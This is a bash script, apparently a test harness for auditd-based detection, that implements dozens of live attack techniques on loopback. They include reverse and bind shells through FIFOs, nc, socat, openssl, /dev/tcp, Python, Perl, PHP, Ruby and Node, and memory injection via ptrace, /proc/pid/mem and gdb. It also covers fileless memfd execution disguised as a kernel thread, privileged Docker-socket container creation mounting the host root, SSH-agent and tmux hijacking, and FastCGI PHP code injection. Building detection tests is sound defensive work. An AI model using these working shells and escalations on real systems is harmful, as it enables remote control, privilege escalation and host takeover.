#!/bin/bash
# One attack a function, on loopback and in $DIR only. `attacks.sh NAME` runs one of them. Every name an operator
# would pick comes from outside: DIR a folder, FIFO, SOCK and QUEUE names in it, TOOL a program's name, PORT a port.
# What runs where (the operator's side in its own session) is in auditd.sh.
set -u
umask 0
python=/usr/bin/python3

# What the operator types once the shell is his.
orders() { sleep 0.6; printf 'id\nuname -a\nhead -2 /etc/passwd\nexit\n'; sleep 0.8; }

# --- FIFOs (L05, L06)

fifo_nc() {
    mkfifo "$DIR/$FIFO"
    cat "$DIR/$FIFO" | /bin/sh -i 2>&1 | nc 127.0.0.1 "$PORT" >"$DIR/$FIFO"
}

fifo_openssl() {
    mkfifo "$DIR/$FIFO"
    /bin/bash -i <"$DIR/$FIFO" 2>&1 | openssl s_client -quiet -connect "127.0.0.1:$PORT" >"$DIR/$FIFO" 2>/dev/null
}

fifo_telnet() {
    mknod "$DIR/$FIFO" p
    telnet 127.0.0.1 "$PORT" 0<"$DIR/$FIFO" | /bin/bash 1>"$DIR/$FIFO" 2>&1
}

fifo_devtcp() {
    mkfifo "$DIR/$FIFO"
    exec 5<>"/dev/tcp/127.0.0.1/$PORT"
    sh -i <"$DIR/$FIFO" >&5 2>&1 &
    cat <&5 >"$DIR/$FIFO"
}

fifo_python() {
    $python - "$DIR/$FIFO" "$PORT" <<'END'
import os, socket, subprocess, sys
os.mkfifo(sys.argv[1])
shell = subprocess.Popen("sh < %s" % sys.argv[1], shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
commands = open(sys.argv[1], "wb", buffering=0)
line = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
while chunk := line.recv(4096):
    commands.write(chunk)
    if b"exit" in chunk:
        break
line.sendall(shell.communicate()[0])
END
}

fifo_socat() {
    mkfifo "$DIR/$FIFO"
    tail -f "$DIR/$FIFO" | sh 2>&1 | socat - "TCP:127.0.0.1:$PORT" >"$DIR/$FIFO"
}

fifo_perl() {
    perl -MPOSIX -MIO::Socket::INET -e '
        my ($fifo, $port) = @ARGV;
        mkfifo($fifo, 0600) or die;
        if (!fork) { open STDIN, "<", $fifo; exec "/bin/bash" }
        open my $commands, ">", $fifo; select $commands; $| = 1;
        my $line = IO::Socket::INET->new("127.0.0.1:$port") or die;
        while (<$line>) { print; last if /exit/ }' "$DIR/$FIFO" "$PORT"
}

fifo_busybox() {
    mkfifo "$DIR/$FIFO"
    busybox cat "$DIR/$FIFO" | busybox sh -i 2>&1 | busybox nc 127.0.0.1 "$PORT" >"$DIR/$FIFO"
}

fifo_terminal() {
    mkfifo "$DIR/$FIFO"
    script -qc sh /dev/null <"$DIR/$FIFO" 2>&1 | nc.openbsd 127.0.0.1 "$PORT" >"$DIR/$FIFO"
}

fifo_eval_reader() { # as root
    mkfifo -m 622 "$DIR/$FIFO"
    while read -r line <"$DIR/$FIFO"; do
        [ "$line" = exit ] && break
        eval "$line"
    done
}

fifo_eval_writer() { # as a user
    sleep 0.5
    for line in id "cp /bin/true $DIR/$TOOL" "chmod 4755 $DIR/$TOOL" exit; do echo "$line" >"$DIR/$FIFO"; sleep 0.3; done
}

fifo_sudo_reader() { # as root
    mkfifo -m 622 "$DIR/$FIFO"
    while read -r line <"$DIR/$FIFO"; do
        [ "$line" = exit ] && break
        sh -c "$line"
    done
}

fifo_sudo_writer() { # as a user
    sleep 0.5
    for line in id 'cp /etc/hostname /dev/null' exit; do echo "$line" >"$DIR/$FIFO"; sleep 0.3; done
}

# --- Sockets (L03, L16, L17)

unix_bind_python() {
    $python - "$DIR/$SOCK" <<'END'
import os, socket, subprocess, sys
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1]); server.listen(1)
client, _ = server.accept()
subprocess.call(["/bin/sh", "-i"], stdin=client, stdout=client, stderr=client)
END
}

unix_bind_perl() {
    perl -MIO::Socket::UNIX -e '
        my $server = IO::Socket::UNIX->new(Local => shift, Listen => 1) or die;
        my $client = $server->accept;
        open STDIN, "<&", $client; open STDOUT, ">&", $client; open STDERR, ">&", $client;
        exec "/bin/bash", "-i"' "$DIR/$SOCK"
}

unix_bind_php() {
    php -r '
        $server = stream_socket_server("unix://" . $argv[1]); $client = stream_socket_accept($server);
        proc_close(proc_open("sh", [$client, $client, $client], $pipes));' "$DIR/$SOCK"
}

unix_bind_ruby() {
    ruby -rsocket -e 'client = UNIXServer.new(ARGV[0]).accept
        while line = client.gets; break if line =~ /exit/; client.write(`#{line}`); end' "$DIR/$SOCK"
}

unix_bind_socat() { timeout 4 socat "UNIX-LISTEN:$DIR/$SOCK,fork" EXEC:/bin/bash,pty,stderr,setsid; }

unix_bind_ncat() { timeout 4 ncat -lU "$DIR/$SOCK" -e /bin/sh; }

unix_bind_nc() {
    mkfifo "$DIR/$FIFO"
    cat "$DIR/$FIFO" | sh -i 2>&1 | timeout 4 nc.openbsd -lU "$DIR/$SOCK" >"$DIR/$FIFO"
}

abstract_bind_python() {
    $python - "$SOCK" <<'END'
import socket, subprocess, sys
server = socket.socket(socket.AF_UNIX)
server.bind("\0" + sys.argv[1]); server.listen(1)
client, _ = server.accept()
subprocess.call(["/bin/bash", "-i"], stdin=client, stdout=client, stderr=client)
END
}

abstract_bind_dropped() { # TOOL is a copy of an interpreter
    cp /usr/bin/perl "$DIR/$TOOL"
    "$DIR/$TOOL" -MSocket -e '
        socket my $server, AF_UNIX, SOCK_STREAM, 0; bind $server, pack("S a*", AF_UNIX, "\0" . shift) or die;
        listen $server, 1; accept my $client, $server;
        open STDIN, "<&", $client; open STDOUT, ">&", $client; open STDERR, ">&", $client;
        exec "/bin/sh"' "$SOCK"
}

pipe_nc() { timeout 5 nc.openbsd -lU "$DIR/$SOCK" | sh; }

unix_reverse_socat() {
    sleep 0.5
    timeout 4 socat "UNIX-CONNECT:$DIR/$SOCK" EXEC:/bin/sh
}

unix_reverse_python() {
    sleep 0.5
    $python - "$DIR/$SOCK" <<'END'
import os, pty, socket, sys
line = socket.socket(socket.AF_UNIX)
line.connect(sys.argv[1])
for n in (0, 1, 2):
    os.dup2(line.fileno(), n)
os.execv("/bin/sh", ["sh", "-i"])
END
}

unix_reverse_child() {
    sleep 0.5
    $python - "$DIR/$SOCK" <<'END'
import socket, subprocess, sys
line = socket.socket(socket.AF_UNIX)
line.connect(sys.argv[1])
subprocess.call(["/bin/bash", "-i"], stdin=line, stdout=line, stderr=line)
END
}

unix_passed_fd() { # takes a descriptor of a network connection from another session and makes it its shell's
    sleep 0.5
    $python - "$DIR/$SOCK" <<'END'
import os, socket, sys
line = socket.socket(socket.AF_UNIX)
line.connect(sys.argv[1])
_, fds, _, _ = socket.recv_fds(line, 16, 1)
for n in (0, 1, 2):
    os.dup2(fds[0], n)
os.execv("/bin/bash", ["bash", "-i"])
END
}

passes_fd() { # its other side
    timeout 6 $python - "$DIR/$SOCK" "$PORT" <<'END'
import os, socket, sys, time
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); server.listen(1)
line = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
client, _ = server.accept()
socket.send_fds(client, [b"x"], [line.fileno()])
time.sleep(2)
END
}

double_fork_daemon() {
    $python - "$DIR/$SOCK" <<'END'
import os, socket, subprocess, sys
if os.fork(): sys.exit()
os.setsid()
if os.fork(): os._exit(0)
import time; time.sleep(0.4)
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1]); server.listen(1)
client, _ = server.accept()
subprocess.call(["/bin/sh", "-i"], stdin=client, stdout=client, stderr=client)
END
}

# --- The operator's side of the sockets.

client_nc() { sleep 1; orders | timeout 4 nc.openbsd -U "$DIR/$SOCK"; }
client_socat() { sleep 1; orders | timeout 4 socat - "UNIX-CONNECT:$DIR/$SOCK"; }
client_abstract() { sleep 1; orders | timeout 4 socat - "ABSTRACT-CONNECT:$SOCK"; }
client_python() {
    sleep 1
    $python - "$DIR/$SOCK" <<'END'
import socket, sys, time
line = socket.socket(socket.AF_UNIX); line.connect(sys.argv[1])
for order in (b"id\n", b"uname -a\n", b"exit\n"):
    line.sendall(order); time.sleep(0.4)
line.settimeout(1)
try: line.recv(9999)
except OSError: pass
END
}
server_nc() { orders | timeout 5 nc.openbsd -lU "$DIR/$SOCK"; }
server_socat() { orders | timeout 5 socat - "UNIX-LISTEN:$DIR/$SOCK"; }
listener() { orders | timeout 6 nc.openbsd -l 127.0.0.1 "$PORT"; }
listener_twice() { orders | timeout 6 nc.openbsd -l 127.0.0.1 "$PORT" & sleep 0.3; wait; timeout 3 nc.openbsd -l 127.0.0.1 "$PORT"; }
listener_tls() {
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$DIR/k" -out "$DIR/c" -days 1 -subj /CN=x 2>/dev/null
    orders | timeout 6 openssl s_server -quiet -key "$DIR/k" -cert "$DIR/c" -accept "127.0.0.1:$PORT"
}

# --- Memory (L12, L18)

memfd_bind() {
    $python - "$DIR/$SOCK" "$TOOL" <<'END'
import os, sys
code = """
import os, socket, sys
server = socket.socket(socket.AF_UNIX); server.bind(%r); server.listen(1)
client, _ = server.accept()
for n in (0, 1, 2): os.dup2(client.fileno(), n)
os.execv("/bin/sh", ["sh", "-i"])
""" % sys.argv[1]
fd = os.memfd_create(sys.argv[2], 0)
os.write(fd, open("/usr/bin/python3", "rb").read())
os.execve("/proc/self/fd/%d" % fd, ["[kworker/1:0]", "-c", code], {})
END
}

victim() { # waits until somebody else's bytes tell it to
    cat >"$DIR/v.c" <<'END'
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
volatile char order[8] = "quiet";
int main(int argc, char **argv) {
    printf("%d %p\n", getpid(), (void *)order); fflush(stdout);
    for (int i = 0; i < 80 && order[0] == 'q'; i++) usleep(100000);
    if (order[0] == 'q') return 1;
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strcpy(to.sun_path + (argc > 2), argv[1]);
    int line = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(line, (void *)&to, offsetof(struct sockaddr_un, sun_path) + strlen(argv[1]) + (argc > 2))) return 2;
    dup2(line, 0); dup2(line, 1); dup2(line, 2);
    execl("/bin/sh", "sh", "-i", NULL);
}
END
    gcc -o "$DIR/victim" "$DIR/v.c" && "$DIR/victim" "$DIR/$SOCK" >"$DIR/where"
}

where() { for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s "$DIR/where" ] && break; sleep 0.3; done; cat "$DIR/where"; }

inject_ptrace() {
    cat >"$DIR/i.c" <<'END'
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
int main(int argc, char **argv) {
    int pid = atoi(argv[1]); void *at = (void *)strtoul(argv[2], 0, 16);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0)) return 1;
    waitpid(pid, 0, 0);
    ptrace(PTRACE_POKEDATA, pid, at, (void *)0x216f67);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
}
END
    gcc -o "$DIR/$TOOL" "$DIR/i.c" && read -r pid at < <(where) && "$DIR/$TOOL" "$pid" "$at"
}

inject_vm_writev() {
    cat >"$DIR/i.c" <<'END'
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/uio.h>
int main(int argc, char **argv) {
    char text[] = "go!"; struct iovec from = {text, 4}, to = {(void *)strtoul(argv[2], 0, 16), 4};
    return process_vm_writev(atoi(argv[1]), &from, 1, &to, 1, 0) != 4;
}
END
    gcc -o "$DIR/$TOOL" "$DIR/i.c" && read -r pid at < <(where) && "$DIR/$TOOL" "$pid" "$at"
}

inject_proc_mem() {
    read -r pid at < <(where)
    printf 'go!' | dd of="/proc/$pid/mem" bs=1 seek=$((at)) conv=notrunc 2>/dev/null
}

inject_gdb() {
    read -r pid at < <(where)
    gdb -q -batch -p "$pid" -ex "set {char}$at = 'g'" -ex detach >/dev/null 2>&1
}

inject_python() {
    read -r pid at < <(where)
    $python -c 'import sys
with open(f"/proc/{sys.argv[1]}/mem", "r+b", 0) as memory:
    memory.seek(int(sys.argv[2], 16)); memory.write(b"go!")' "$pid" "$at"
}

# --- Queues and shared memory (L13, L14)

queue_receiver() { # KIND
    timeout 6 $python - "$1" "$QUEUE" <<'END'
import ctypes, os, sys
libc = ctypes.CDLL("libc.so.6", use_errno=True)
def command():
    text = ctypes.create_string_buffer(8192)
    if sys.argv[1] == "posix":
        return text.raw[: libc.mq_receive(queue, text, 8192, None)]
    length = libc.msgrcv(queue, text, 8184, 0, 0)
    return text.raw[8 : 8 + length]
if sys.argv[1] == "posix":
    queue = libc.mq_open(b"/" + sys.argv[2].encode(), os.O_CREAT | os.O_RDWR, 0o622, None)
else:
    queue = libc.msgget(int(sys.argv[2], 16) , 0o1666)
while True:
    order = command().rstrip(b"\0").decode()
    if order == "exit": break
    os.system(order)
END
}

queue_sender() { # KIND
    sleep 0.8
    $python - "$1" "$QUEUE" <<'END'
import ctypes, os, sys, time
libc = ctypes.CDLL("libc.so.6", use_errno=True)
for order in (b"id", b"uname -a >/dev/null", b"exit"):
    if sys.argv[1] == "posix":
        queue = libc.mq_open(b"/" + sys.argv[2].encode(), os.O_WRONLY)
        libc.mq_send(queue, order, len(order), 0)
    else:
        queue = libc.msgget(int(sys.argv[2], 16), 0)
        text = ctypes.create_string_buffer((1).to_bytes(8, "little") + order)
        libc.msgsnd(queue, text, len(order), 0)
    time.sleep(0.3)
END
}

shm_pair() { # KIND
    cp $python "$DIR/$TOOL"
    "$DIR/$TOOL" - "$1" "$QUEUE" <<'END'
import ctypes, os, subprocess, sys, time
libc = ctypes.CDLL("libc.so.6")
if sys.argv[1] == "sysv":
    libc.shmat.restype = ctypes.c_void_p
    memory = libc.shmat(libc.shmget(int(sys.argv[2], 16), 4096, 0o1666), None, 0)
    read = lambda: ctypes.string_at(memory)
else:
    import mmap
    fd = os.open("/dev/shm/" + sys.argv[2], os.O_CREAT | os.O_RDWR | os.O_NOFOLLOW | os.O_CLOEXEC, 0o666)
    os.ftruncate(fd, 4096); view = mmap.mmap(fd, 4096); read = lambda: view[:64].split(b"\0")[0]
for _ in range(40):
    time.sleep(0.1)
    if order := read():
        os.system(order.decode()); break
END
}

shm_writer() { # KIND
    sleep 0.8
    $python - "$1" "$QUEUE" <<'END'
import ctypes, os, sys
libc = ctypes.CDLL("libc.so.6")
if sys.argv[1] == "sysv":
    libc.shmat.restype = ctypes.c_void_p
    ctypes.memmove(libc.shmat(libc.shmget(int(sys.argv[2], 16), 4096, 0), None, 0), b"id\0", 3)
else:
    import mmap
    fd = os.open("/dev/shm/" + sys.argv[2], os.O_RDWR | os.O_NOFOLLOW | os.O_CLOEXEC)
    view = mmap.mmap(fd, 4096); view[:3] = b"id\0"
END
}

# --- Sockets of daemons (L01, L08, L09, L10)

docker_curl() {
    curl -s --unix-socket "$1" http://localhost/version >/dev/null
    curl -s --unix-socket "$1" -X POST -H 'Content-Type: application/json' \
        -d '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/h"]}}' http://localhost/v1.41/containers/create
    curl -s --unix-socket "$1" -X POST http://localhost/v1.41/containers/abc/start
}

docker_python() {
    $python -c 'import http.client, socket, sys
class Connection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX); self.sock.connect(sys.argv[1])
c = Connection("localhost")
c.request("POST", "/containers/create", "{\"Image\":\"alpine\",\"HostConfig\":{\"Privileged\":true}}"); c.getresponse().read()' "$1"
}

docker_nc() {
    printf 'POST /containers/create HTTP/1.0\r\n\r\n' | timeout 3 nc.openbsd -U "$1"
}

docker_socat() {
    printf 'POST /containers/abc/start HTTP/1.0\r\n\r\n' | timeout 3 socat - "UNIX-CONNECT:$1"
}

docker_carried() { # the daemon's socket, to whoever listens
    sleep 0.5
    timeout 3 socat "TCP:127.0.0.1:$PORT" "UNIX-CONNECT:$1"
}

agent_ssh() { SSH_AUTH_SOCK=$1 ssh-add -l; SSH_AUTH_SOCK=$1 ssh -o BatchMode=yes -o ConnectTimeout=1 -p "$PORT" x@127.0.0.1 id; }

tmux_hijack() { tmux -S "$1" send-keys 'id >/dev/null' Enter; }

bus_race() {
    dbus-send --system --print-reply --reply-timeout=300 --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 \
        org.freedesktop.systemd1.Manager.StartUnit string:x.service string:replace
    for _ in 1 2 3; do
        dbus-send --system --dest=org.freedesktop.Accounts --type=method_call --print-reply /org/freedesktop/Accounts \
            org.freedesktop.Accounts.CreateUser string:x string:x int32:1 &
        sleep 0.008; kill $! 2>/dev/null
    done
}

fastcgi() { # the web server's socket, spoken to by somebody else
    $python - "$1" "$2" <<'END'
import socket, struct, sys
def record(kind, body): return struct.pack(">BBHHBB", 1, kind, 1, len(body), 0, 0) + body
def pair(name, value): return bytes([len(name), len(value)]) + name + value
code = b"<?php system('id; uname -a'); ?>"
params = b"".join(pair(k.encode(), v.encode()) for k, v in {
    "REQUEST_METHOD": "POST", "SCRIPT_FILENAME": sys.argv[2], "CONTENT_LENGTH": str(len(code)),
    "PHP_VALUE": "auto_prepend_file=php://input", "PHP_ADMIN_VALUE": "allow_url_include=On"}.items())
for _ in range(3):
    line = socket.socket(socket.AF_UNIX); line.connect(sys.argv[1])
    line.sendall(record(1, b"\0\1\0\0\0\0\0\0") + record(4, params) + record(4, b"") + record(5, code) + record(5, b""))
    line.settimeout(2); print(line.recv(4096))
END
}

# --- More shapes of the same: loops instead of shells, programs nobody knows, sockets without a stream.

forward_shell() { # commands are written into the FIFO by whoever fetches them
    mkfifo "$DIR/$FIFO"
    timeout 5 sh -c "tail -f $DIR/$FIFO | sh >$DIR/o 2>&1" &
    sleep 0.4
    exec 5<>"/dev/tcp/127.0.0.1/$PORT"
    timeout 3 head -3 <&5 >"$DIR/$FIFO"
    sleep 0.5
}

curl_polled() {
    mkfifo "$DIR/$FIFO"
    sh <"$DIR/$FIFO" >"$DIR/o" 2>&1 &
    sleep 0.3
    for _ in 1 2 3; do curl -s "http://127.0.0.1:$PORT/c"; sleep 0.3; done >"$DIR/$FIFO"
    wait
}
serves_commands() { cd "$DIR" && printf 'id\nuname -a\n' >c && timeout 5 $python -m http.server "$PORT" --bind 127.0.0.1; }

looped() { # a FIFO, something that runs its lines, and a relay
    mkfifo "$DIR/$FIFO"
    timeout 5 "$@" <"$DIR/$FIFO" 2>&1 | timeout 5 nc.openbsd 127.0.0.1 "$PORT" >"$DIR/$FIFO"
}
lua_loop() { looped lua5.4 -e 'for line in io.lines() do os.execute(line) end'; }
perl_loop() { looped perl -ne 'system $_'; }
awk_loop() { looped awk '{system($0)}'; }
xargs_loop() { looped xargs -I{} sh -c '{}'; }
eval_loop() { looped bash -c 'while read -r line; do eval "$line"; done'; }
python_loop() { looped $python -c 'import os, sys
for line in sys.stdin: os.system(line)'; }
busybox_loop() { looped busybox sh; }

fifo_wrapped() {
    mkfifo "$DIR/$FIFO"
    setsid nice -n1 sh -i <"$DIR/$FIFO" 2>&1 | timeout 4 nc.openbsd 127.0.0.1 "$PORT" >"$DIR/$FIFO"
}

fifo_unknown_relay() { # the relay has no name that anybody knows
    cp "$(command -v socat)" "$DIR/$TOOL"
    mkfifo "$DIR/$FIFO"
    sh -i <"$DIR/$FIFO" 2>&1 | timeout 4 "$DIR/$TOOL" - "TCP:127.0.0.1:$PORT" >"$DIR/$FIFO"
}

two_lines() { timeout 4 nc.openbsd 127.0.0.1 "$PORT" | sh | timeout 4 nc.openbsd 127.0.0.1 "$PORT"; }

static_bind() {
    cat >"$DIR/s.c" <<'END'
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    strcpy(at.sun_path, argv[1]);
    int server = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(server, (void *)&at, sizeof at) || listen(server, 1)) return 1;
    int line = accept(server, 0, 0);
    dup2(line, 0); dup2(line, 1); dup2(line, 2);
    execl("/bin/sh", "sh", "-i", (char *)0);
}
END
    gcc -static -o "$DIR/$TOOL" "$DIR/s.c" && "$DIR/$TOOL" "$DIR/$SOCK"
}

each_command() { # a copied interpreter runs each command by itself
    cp "$(command -v perl)" "$DIR/$TOOL"
    "$DIR/$TOOL" -MIO::Socket::UNIX -e '
        my $server = IO::Socket::UNIX->new(Local => shift, Listen => 1) or die;
        my $client = $server->accept;
        while (<$client>) { last if /exit/; print $client `$_` }' "$DIR/$SOCK"
}

datagram_bind() { # TOOL is a copy of an interpreter
    cp $python "$DIR/$TOOL"
    timeout 5 "$DIR/$TOOL" - "$DIR/$SOCK" <<'END'
import socket, subprocess, sys
server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); server.bind(sys.argv[1]); server.settimeout(4)
while (order := server.recv(999).decode().strip()) != "exit":
    subprocess.call(["sh", "-c", order])
END
}
client_datagram() {
    sleep 1
    $python - "$DIR/$SOCK" <<'END'
import socket, sys, time
line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); line.connect(sys.argv[1])
for order in (b"id", b"uname -a", b"hostname", b"exit"):
    line.send(order); time.sleep(0.3)
END
}

unix_bind_exec() { timeout 4 socat "UNIX-LISTEN:$DIR/$SOCK" EXEC:/bin/sh; }
unix_bind_system() { timeout 4 socat "UNIX-LISTEN:$DIR/$SOCK" SYSTEM:'exec bash -i'; }
abstract_bind_socat() { timeout 4 socat "ABSTRACT-LISTEN:$SOCK" EXEC:/bin/bash; }

unix_bind_node() {
    timeout 5 node -e '
        require("net").createServer(c => {
            const shell = require("child_process").spawn("sh", ["-i"]);
            c.pipe(shell.stdin); shell.stdout.pipe(c); shell.on("exit", () => process.exit());
        }).listen(process.argv[1])' "$DIR/$SOCK"
}

unix_reverse_node() {
    sleep 0.5
    timeout 5 node -e '
        const c = require("net").connect(process.argv[1]), shell = require("child_process").spawn("/bin/bash", ["-i"]);
        c.pipe(shell.stdin); shell.stdout.pipe(c); shell.on("exit", () => process.exit())' "$DIR/$SOCK"
}

"$@"
